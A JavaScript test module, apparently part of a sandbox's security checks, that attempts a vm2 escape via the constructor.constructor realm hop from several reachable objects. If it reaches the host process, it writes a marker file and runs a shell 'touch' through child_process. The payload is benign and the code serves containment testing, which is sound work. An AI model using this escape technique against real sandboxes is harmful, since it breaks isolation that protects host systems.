// Escape attempt: the classic realm hop: any object's constructor.constructor is Function; in vm2 it must be the sandbox's Function, and code generation from strings is off.
// Each attempt hands whatever it reached to pwn(); pwn writes the marker file only if it holds the host process.
function pwn(p, marker, notes, label) {
  try {
    if (!p || (typeof p !== "object" && typeof p !== "function")) { notes.push(label + ": nothing"); return false; }
    const get = typeof p.getBuiltinModule === "function" ? (n) => p.getBuiltinModule(n) : p.mainModule ? (n) => p.mainModule.require(n) : null;
    if (!get) { notes.push(label + ": no process"); return false; }
    get("fs").writeFileSync(marker, "escaped via " + label);
    try { get("child_process").execSync("touch " + marker + ".cp"); } catch (e) {}
    notes.push(label + ": ESCAPED");
    return true;
  } catch (e) { notes.push(label + ": " + String(e && e.message)); return false; }
}
function attempt(notes, label, fn) {
  try { fn(); } catch (e) { notes.push(label + " threw: " + String(e && e.message).slice(0, 80)); }
}

module.exports = {
  name: 'escape-constructor-constructor',
  description: 'sandbox escape attempt: constructor-constructor',
  risk: 'inspect',
  phrases: [],
  params: { marker: { type: 'string' } },
  applies_to: [],
  async run(ctx, params) {
    const marker = params.marker;
    const notes = [];

    attempt(notes, "this", () => pwn(this.constructor.constructor("return process")(), marker, notes, "this.constructor"));
    attempt(notes, "object", () => pwn(({}).constructor.constructor("return process")(), marker, notes, "object"));
    attempt(notes, "ctx fn", () => pwn(ctx.services.constructor.constructor("return process")(), marker, notes, "ctx fn"));
    attempt(notes, "__send", () => pwn(__send.constructor.constructor("return process")(), marker, notes, "__send"));
    attempt(notes, "promise", () => pwn(ctx.services().constructor.constructor("return process")(), marker, notes, "promise"));
    return { summary: notes.join(' | '), data: notes };
  },
};
